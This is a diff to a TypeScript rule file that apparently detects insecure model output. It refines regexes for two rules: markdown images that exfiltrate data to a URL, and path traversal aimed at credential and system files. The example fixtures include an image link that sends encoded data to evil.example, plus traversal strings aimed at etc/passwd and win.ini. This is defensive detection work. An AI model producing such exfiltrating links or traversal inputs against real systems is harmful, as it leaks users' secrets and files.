@@ -102,7 +102,7 @@ export const insecureOutputRules: readonly Rule[] = [
     severity_reason: 'It sends the data as soon as it is shown; nobody clicks.',
     references: ['https://atlas.mitre.org/techniques/AML.T0057'],
     triggers: ['!['],
-    pattern: '!\\[[^\\]\\n]{0,200}\\]\\(\\s{0,3}<?https?://[^\\s)]{4,2400}\\)?',
+    pattern: '!\\[[^\\][\\n]{0,200}\\]\\(\\s{0,3}<?https?://[^\\s)]{4,2400}\\)?',
     validators: ['carries_data'],
     examples: {
       match: [{ text: '![x](https://evil.example/p.png?d=c2VjcmV0IGRhdGE)' }],
@@ -176,7 +176,7 @@ export const insecureOutputRules: readonly Rule[] = [
     references: ['https://cwe.mitre.org/data/definitions/22.html'],
     triggers: ['../', '..\\', '..%2f', '..%5c', '..;/', '....//'],
     pattern:
-      '(?<![.\\w])(?:\\.{2,4}(?:/{1,2}|\\\\{1,2}|%2f|%5c|;/)){2,20}(?:[\\w.-]{1,40}[/\\\\]){0,4}(?:etc[/\\\\](?:passwd|shadow|hosts)|windows[/\\\\](?:win\\.ini|system32)|boot\\.ini|proc[/\\\\]self|var[/\\\\]log|root[/\\\\]|\\.ssh|\\.env\\b|\\.aws|web\\.config|wp-config)',
+      '(?<![.\\w])(?=((?:\\.{2,4}(?:/{1,2}|\\\\{1,2}|%2f|%5c|;/)){2,20}))\\1(?:[\\w.-]{1,40}[/\\\\]){0,4}(?:etc[/\\\\](?:passwd|shadow|hosts)|windows[/\\\\](?:win\\.ini|system32)|boot\\.ini|proc[/\\\\]self|var[/\\\\]log|root[/\\\\]|\\.ssh|\\.env\\b|\\.aws|web\\.config|wp-config)',
     examples: {
       match: [{ text: 'file=../../../../etc/passwd' }, { text: '..\\..\\windows\\win.ini' }],
       no_match: [{ text: "import x from '../../lib/x.ts'" }, { text: 'wait... ../' }],
